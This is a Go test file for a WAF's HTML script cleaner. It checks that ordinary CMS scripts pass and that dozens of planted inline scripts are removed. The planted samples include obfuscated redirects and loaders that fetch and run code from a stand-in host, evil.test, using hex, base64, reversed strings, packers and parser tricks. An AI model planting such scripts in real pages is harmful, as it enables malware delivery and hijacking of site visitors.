package clean

import (
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/lachan-waf/lachan/policies"
)

// TestBenignScripts: inline scripts of the kind CMSs and themes write stay.
func TestBenignScripts(t *testing.T) {
	tests := map[string]string{
		"emoji loader":     `window._wpemojiSettings={"baseUrl":"https:\/\/s.w.org\/images\/core\/emoji\/15.0.3\/72x72\/","ext":".png","source":{"concatemoji":"https:\/\/www.portal.example\/wp-includes\/js\/wp-emoji-release.min.js?ver=6.8"}};!function(i,n){var o,s,e;function p(e,t){var n=i.createElement("canvas").getContext("2d");n.clearRect(0,0,1,1);return n.fillText(e,0,0),t}function c(e){var t=n.createElement("script");t.src=e,t.defer=!0,n.head.appendChild(t)}"undefined"!=typeof Promise&&c(i._wpemojiSettings.source.concatemoji)}(window,document);`,
		"api settings":     `var wpApiSettings = {"root":"https:\/\/www.portal.example\/wp-json\/","nonce":"a1b2c3","versionString":"wp\/v2\/"};`,
		"joomla options":   `{"csrf.token":"0123456789abcdef0123456789abcdef","system.paths":{"root":"","base":""},"joomla.jtext":{"ERROR":"Lỗi","MESSAGE":"Thông báo"}}`,
		"jquery ready":     `jQuery(function($){ $('.menu-toggle').on('click', function(e){ e.preventDefault(); $('#menu').slideToggle(200); }); });`,
		"no-js class":      `document.documentElement.className = document.documentElement.className.replace(/\bno-js\b/, 'js');`,
		"own navigation":   `document.getElementById('lang').onchange = function () { window.location.href = '/' + this.value + '/'; };`,
		"allowed redirect": `if (!loggedIn) location.replace("https://login.example/?back=" + encodeURIComponent(location.href));`,
		"data layer":       `window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);} gtag('js', new Date()); gtag('config', 'G-ABC123');`,
		"share button":     `function share(u){ window.open('https://www.facebook.com/sharer/sharer.php?u=' + encodeURIComponent(u), 'share', 'width=600,height=400'); }`,
		"slider options":   `var options = {"images":["\/img\/1.jpg","\/img\/2.jpg"],"speed":5000,"colors":[255,128,0,64,32,16,8,4]}; startSlider(options);`,
		"clock":            `setInterval(function(){ var d = new Date(); document.getElementById("clock").innerHTML = d.getHours() + ":" + d.getMinutes(); }, 1000);`,
		"cookie notice":    `try { var seen = decodeURIComponent(document.cookie.split('seen=')[1] || ''); if (!seen) { document.getElementById('notice').hidden = false; } } catch (e) {}`,
		"print":            `function inTrang(){ var w = window.open('', 'in'); w.document.write('<h1>Văn bản</h1>'); w.print(); }`,
		"article as data":  `wp.apiFetch.use( wp.apiFetch.createPreloadingMiddleware( {"\/wp\/v2\/posts\/7":{"body":{"content":{"raw":"<!-- wp:code -->\u003Cpre>var s = document.createElement(\"script\"); location = \"https:\/\/other.example\/\"\u003C\/pre>"},"_links":{"curies":[{"href":"https:\/\/api.w.org\/{rel}"}]}}}} ) );`,
		"library fallback": `!window.jQuery && document.write(unescape('%3Cscript src="js/libs/jquery-1.5.1.min.js"%3E%3C/script%3E'))`,
		"old JSON":         `var data=eval('('+x.responseText+')');var n=parseInt(data.total,10);var c=unescape(document.cookie);`,
		"retrieval":        `function retrieval(n){return String.fromCharCode(n)} retrieval(parseInt("5"));`,
		"author's comment": "/* Live clock, from http://www.dynamicdrive.example */ var d=new Date(); document.write(\"<small>\"+d.getDate()+\"</small>\")",
		"old wrapping":     "<!--\n// Script by http://www.javascriptkit.example/\nvar n=1/2; document.write('<b>'+n+'</b>')\n//-->",
		"slider":           "// http://dev7studios.example/nivo-slider\nvar w='<iframe src=\"/khung.html\"></iframe>'; show(w)",
		"list of networks": `var m=["https://www.facebook.com","https://zalo.me/portal"];show(m.join("<br>"));`,
		"download":         `function tai(b){var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="bang.csv";a.click()}`,
		"search form":      `document.getElementById("f").onchange=function(){this.form.submit()};`,
		"counter":          `fetch("/wp-json/dem").then(function(r){return r.json()}).then(function(d){setTimeout(show,100,d)})`,
		"vector namespace": `var s = document.createElementNS("http://www.w3.org/2000/svg", "svg"); document.body.appendChild(s);`,
	}
	c := newCleaner(t, portal(t))
	for name, script := range tests {
		t.Run(name, func(t *testing.T) {
			in := "<p>a</p><script>" + script + "</script><p>b</p>"
			out, findings := cleanString(t, c, in)
			if out != in {
				t.Errorf("removed: %+v", findings)
			}
		})
	}
}

// TestPlantedScripts: each is removed for the reason given.
func TestPlantedScripts(t *testing.T) {
	tests := []struct{ name, script, reason string }{
		{"redirect", `window.location="https://evil.test/";`, reasonLeadsAway},
		{"replace", `if(/bot|google/i.test(navigator.userAgent)){}else{location.replace('//evil.test/')}`, reasonLeadsAway},
		{"top", `top.location.href = "http:\/\/evil.test\/"`, reasonLeadsAway},
		{"variable", `var u="https://evil.test/x"; setTimeout(function(){ window.location.href = u; }, 100);`, reasonLeadsAway},
		{"comment", `window.location/* x */="https://evil.test/";`, reasonLeadsAway},
		{"spaces of other kinds", "location\v\u00A0=\u2028'https://evil.test/'", reasonLeadsAway},
		{"line comment", "location // x\n = 'https://evil.test/';", reasonLeadsAway},
		{"comment in a call", `eval(/**/atob("YWxlcnQoMSk="))`, reasonDecoder},
		{"comment in a loader", `var s=document.createElement/**/(/**/"script");s.src="https://evil.test/a.js";document.head.append(s)`, reasonLoadsScript},
		{"comment in a string", `var a="/*";location="https://evil.test/";var b="*/";`, reasonLeadsAway},
		{"joined", `location.href="https://ev"+"il.test/";`, reasonLeadsAway},
		{"hex", `window["\x6c\x6f\x63\x61\x74\x69\x6f\x6e"]="\x68\x74\x74\x70\x73\x3a\x2f\x2f\x65\x76\x69\x6c\x2e\x74\x65\x73\x74";`, reasonHiddenHost},
		{"eval of base64", `eval(atob("cHduPTE="))`, reasonDecoder},
		{"eval of percent", `eval(unescape("%70%77%6e%3d%31"))`, reasonDecoder},
		{"eval of codes", `eval(String.fromCharCode(112,119,110,61,49))`, reasonDecoder},
		{"hidden call", `window["\x65\x76\x61\x6c"]("\x70\x77\x6e=1")`, reasonDecoder},
		{"hidden loader", `(function(a,b){var c=a.createElement(b);c.async=1;c.src=atob("Ly9ldmlsLnRlc3QvMS5qcw==");a.head.appendChild(c)})(document,"script")`, reasonHiddenHost},
		{"codes", `var s="";[104,116,116,112,115,58,47,47,101,118,105,108,46,116,101,115,116].forEach(function(n){s+=String.fromCharCode(n)});location=s;`, reasonHiddenHost},
		{"backwards", `var u="/tset.live//:sptth".split("").reverse().join("");document.location=u;`, reasonHiddenHost},
		{"loader", `var d=document,s=d.createElement("script");s.src="//ev"+"il.test/1.js";d.head.appendChild(s)`, reasonLoadsScript},
		{"writer", `document.write('<scr'+'ipt src="https://evil.test/x.js"></scr'+'ipt>');`, reasonLoadsScript},
		{"written link", `document.write('<a href="https://evil.test/">slot</a>');`, reasonWrites},
		{"module", `import "https://evil.test/m.js";`, reasonLoadsScript},
		{"after a comment", "/* http://a.example */ location='//evil.test/'", reasonLeadsAway},
		{"regexp with a comment in it", "var a=/[/*]/;location='//evil.test/';/*]/", reasonLeadsAway},
		{"regexp behind a parenthesis", "if(1)/\"/.x;location='//evil.test/';//\"", reasonLeadsAway},
		{"regexp behind a keyword", "function f(){return /\"/;location='//evil.test/'}//\"", reasonLeadsAway},
		{"line separator", "// a\u2028location='//evil.test/'", reasonLeadsAway},
		{"backslashes", `var s=document.createElement('script');s.src='/\\evil.test/1.js';document.head.appendChild(s)`, reasonLoadsScript},
		{"two backslashes", `var s=document.createElement('script');s.src='\\\\evil.test/1.js';document.head.appendChild(s)`, reasonLoadsScript},
		{"address", `var s=document.createElement('script');s.src='//127.0.0.1:8000/1.js';document.head.appendChild(s)`, reasonLoadsScript},
		{"number", `var s=document.createElement('script');s.src='//2130706433/1.js';document.head.appendChild(s)`, reasonLoadsScript},
		{"punycode", `var s=document.createElement('script');s.src='//xn--bcher-kva.test/1.js';document.head.appendChild(s)`, reasonLoadsScript},
		{"underscore", `var s=document.createElement('script');s.src='//a_b.evil.test/1.js';document.head.appendChild(s)`, reasonLoadsScript},
		{"userinfo", `location='//www.facebook.com@evil.test/'`, reasonLeadsAway},
		{"capitals", `var s=document.createElement('SCRIPT');s.src='//evil.test/1.js';document.head.appendChild(s)`, reasonLoadsScript},
		{"by name", `var s=document['createElement']('script');s.src='//evil.test/1.js'`, reasonLoadsScript},
		{"import of a variable", `var u='//evil.test/1.js';import(u)`, reasonLoadsScript},
		{"written markup with code", `document.write(unescape('%3Cscript%3Epwn()%3C/script%3E'))`, reasonDecoder},
		{"literal to a range", `var r=new Range();r.insertNode(r.createContextualFragment("<script src='//evil.test/1.js'><\/script>"))`, reasonLoadsScript},
		{"literal to an alias", `var wp={use:$};wp.use("<iframe src='//evil.test/f'></iframe>")`, reasonLoadsScript},
		{"literal handed on", `$("body").append("<script src='//evil.test/1.js'><\/script>")`, reasonLoadsScript},
		{"literal as handler", `x.setAttribute("onclick", "location='https://evil.test/'")`, reasonLeadsAway},
		{"literal after a regexp", `/"/.x; s.createElement("script"); s["src"]="//evil.test"; //"`, reasonLoadsScript},
		{"literal after a comment", `<!-- "
s.x("//evil.test"); y.z("createElement('script'"); <!-- "`, reasonLoadsScript},
		{"literal as name", `self["location"]="https://evil.test/"`, reasonLeadsAway},
		{"subscripts", `window["loc"+"ation"]["repl"+"ace"]("//evil.test/r.html")`, reasonLeadsAway},
		{"refresh that is made", `m=document.createElement("meta");m.httpEquiv="refresh";m.content="0;url=//evil.test/r.html";document.head.append(m)`, reasonLeadsAway},
		{"refresh by attributes", `m=document.createElement('meta');m.setAttribute('http-equiv', 'refresh');m.content="0;url=//evil.test/r.html";document.head.append(m)`, reasonLeadsAway},
		{"link that is clicked", `var a=document.createElement("a");a.href="//evil.test/r.html";document.body.append(a);a.click()`, reasonLeadsAway},
		{"link that is clicked, and another way", `var a=document.createElement("a");a.href="//evil.test/r.html";a.click();location="//evil.test/r.html"`, reasonLeadsAway},
		{"form that is sent", `f=document.createElement("form");f.action="//evil.test/c";document.body.append(f);f.submit()`, reasonLeadsAway},
		{"shared worker", `new SharedWorker("//evil.test/w.js")`, reasonLoadsScript},
		{"hashbang", "#!/*\nlocation='https://evil.test/'//*/", reasonLeadsAway},
		{"host behind a scheme", `location.href="https:evil.test/r.html"`, reasonLeadsAway},
		{"host behind one slash", `location.href='http:/evil.test/r.html'`, reasonLeadsAway},
		{"member by its name", `location.href=cfg["u"];var cfg={u:"https://evil.test/"}`, reasonLeadsAway},
		{"fetched and run", `fetch("//evil.test/1.js").then(r=>r.text()).then(eval)`, reasonLoadsScript},
		{"fetched as of old", `x=new XMLHttpRequest;x.open("GET","//evil.test/1.js",false);x.send();new Function(x.responseText)()`, reasonLoadsScript},
		{"list of pieces", `s=document.createElement("script");s.setAttribute("src",["//ev","il.test/1.js"].join(""));document.body.append(s)`, reasonHiddenHost},
		{"list in a variable", `var p=['/','/evi','l.te','st/1.js'],s=document.createElement("script");s.src=p.join('')`, reasonHiddenHost},
		{"eval in disguise", `\u0065val("pwn=1")`, reasonDecoder},
		{"eval of text that is turned round", `eval("1=nwp".split("").reverse().join(""))`, reasonDecoder},
		{"packer", `eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))`, reasonPacked},
		{"obfuscator", `var _0x1a2b=['\x68\x65','push'];(function(_0x3c,_0x4d){while(!![]){_0x3c['push'](_0x3c['shift']());}}(_0x1a2b,0x1));`, reasonPacked},
	}
	c := newCleaner(t, portal(t))
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			out, findings := cleanString(t, c, "a<script>"+test.script+"</script>b")
			if out != "ab" || len(findings) != 1 {
				t.Fatalf("%s %+v", out, findings)
			}
			if sorted := slices.Sorted(slices.Values(findings[0].Reasons)); len(slices.Compact(sorted)) != len(findings[0].Reasons) {
				t.Errorf("a reason stands twice: %v", findings[0].Reasons)
			}
			if test.reason != "" && !slices.Contains(findings[0].Reasons, test.reason) {
				t.Errorf("reasons %v, want %s", findings[0].Reasons, test.reason)
			}
		})
	}
}

// TestAfterHTML: behind the page a weak sign is enough.
func TestAfterHTML(t *testing.T) {
	c := newCleaner(t, portal(t))
	in := `</html><script>var a="https://evil.test/";send(a)</script>`
	if out, _ := cleanString(t, c, in); out != "</html>" {
		t.Error(out)
	}
	in = `<script>var a="https://evil.test/";send(a)</script></html>`
	if out, _ := cleanString(t, c, in); out != in {
		t.Error(out)
	}
}

func TestKnownScripts(t *testing.T) {
	const script = "startMenu();"
	sum := sha256.Sum256([]byte(script))
	file := filepath.Join(t.TempDir(), "baseline.yaml")
	if err := os.WriteFile(file, []byte("scripts:\n  - "+hex.EncodeToString(sum[:])+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	baseline, err := policies.LoadBaseline(file)
	if err != nil {
		t.Fatal(err)
	}
	site := portal(t)
	site.Response.InlineScripts = policies.ScriptsKnown
	c, err := New(site, baseline)
	if err != nil {
		t.Fatal(err)
	}
	in := "<script>" + script + "</script>"
	if out, _ := cleanString(t, c, in+"<script>other()</script>"+`<b onclick="startMenu();" onfocus=x()>c</b>`); out != in+`<b onclick="startMenu();">c</b>` {
		t.Error(out)
	}
}

// TestReportedScripts: under report nothing goes, and all is told.
func TestReportedScripts(t *testing.T) {
	site := portal(t)
	site.Response.InlineScripts = policies.ScriptsReport
	c := newCleaner(t, site)
	in := `<script>eval(atob("cHduPTE="))</script><b onclick="location='//evil.test'">c</b>`
	out, findings := cleanString(t, c, in)
	if out != in || len(findings) != 2 || findings[0].Removed || findings[1].Removed {
		t.Errorf("%s %+v", out, findings)
	}
}

func TestLongScript(t *testing.T) {
	c := newCleaner(t, portal(t))
	in := []byte("<p>a</p><script>" + strings.Repeat("var abc = 1;\n", maxScript/10) + "</script><p>b</p>")
	for _, size := range []int{0, 1000, 4096, 70000} {
		out, findings := cleanBy(t, c, in, size, Document{})
		if out != "<p>a</p><p>b</p>" || len(findings) != 1 || findings[0].Reasons[0] != reasonTooLong {
			t.Errorf("in pieces of %d: %.100s %+v", size, out, findings)
		}
	}
}

// TestSpeculationRules: what is fetched ahead is judged as the URL it resolves to.
func TestSpeculationRules(t *testing.T) {
	c := newCleaner(t, portal(t))
	for rules, want := range map[string]bool{
		`{"prefetch":[{"urls":["/a","https://fonts.gstatic.com/b"]}]}`:                                       true,
		`{"prerender":[{"where":{"and":[{"href_matches":"/*\\?*"},{"not":{"selector_matches":".no a"}}]}}]}`: true,
		`{"prefetch":[{"urls":["https://evil.test/"]}]}`:                                                     false,
		`{"prefetch":[{"urls":["/\t/evil.test/"]}]}`:                                                         false,
		`{"prefetch":[{"urls":["\u002f\\evil.test/"]}]}`:                                                     false,
		`{"prefetch":[{"urls":["/a"]}]} x`:                                                                   false,
	} {
		in := `<script type="speculationrules">` + rules + `</script>`
		if out, findings := cleanString(t, c, in); (out == in) != want {
			t.Errorf("%s: %+v", rules, findings)
		}
	}
}
